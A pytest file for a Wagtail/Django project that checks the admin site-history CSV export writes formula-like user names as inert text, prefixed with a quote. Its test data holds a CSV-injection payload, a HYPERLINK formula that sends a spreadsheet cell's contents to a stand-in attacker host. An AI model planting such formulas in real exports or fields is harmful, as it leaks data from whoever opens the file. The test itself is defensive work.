"""Wagtail's own listing exports keep formulas out of their CSV too (issue 12): the site history
names users and objects that anyone may have named `=...`."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.log_actions import log

from cotraining.constants import AuditAction
from cotraining.models import User
from tests.factories import SessionFactory, UserFactory

NAME = '=HYPERLINK("https://evil.example/?"&A2;"Détails")'


@pytest.mark.django_db
def test_site_history_csv_writes_a_formula_like_user_name_as_text(client):
    someone = UserFactory(first_name=NAME, last_name="Martin")
    log(SessionFactory(), AuditAction.UPDATE_SESSION, user=someone)
    client.force_login(User.objects.create_superuser("ops@example.org", "x"))

    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})

    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    users = [row[4] for row in rows[1:]]
    assert any(user.startswith("'" + NAME) for user in users), users
    assert not any(cell.startswith("=") for row in rows for cell in row)
